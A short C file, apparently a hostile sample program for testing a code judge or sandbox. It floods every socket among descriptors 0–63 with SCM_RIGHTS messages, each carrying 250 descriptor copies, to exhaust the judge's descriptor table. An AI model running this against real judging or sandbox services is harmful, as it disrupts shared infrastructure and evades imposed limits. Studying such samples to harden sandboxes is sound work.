/*
 * channel-send-descriptors: Sends its own descriptors over every socket
 * (SCM_RIGHTS), 250 at a time, to fill up the judge's table.
 */
#define _GNU_SOURCE
#include <string.h>
#include <sys/socket.h>

static void pass_on(void)
{
    union {
        char bytes[CMSG_SPACE(250 * sizeof(int))];
        struct cmsghdr align;
    } control = {{0}};
    char byte = 1;
    struct iovec io = {&byte, 1};
    struct msghdr msg = {.msg_iov = &io, .msg_iovlen = 1};
    msg.msg_control = control.bytes;
    msg.msg_controllen = sizeof control.bytes;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(250 * sizeof(int));
    memset(CMSG_DATA(c), 0, 250 * sizeof(int));
    for (int fd = 0; fd < 64; fd++)
        for (int i = 0; i < 10; i++)
            sendmsg(fd, &msg, MSG_DONTWAIT | MSG_NOSIGNAL);
}
#define HOOK() pass_on()
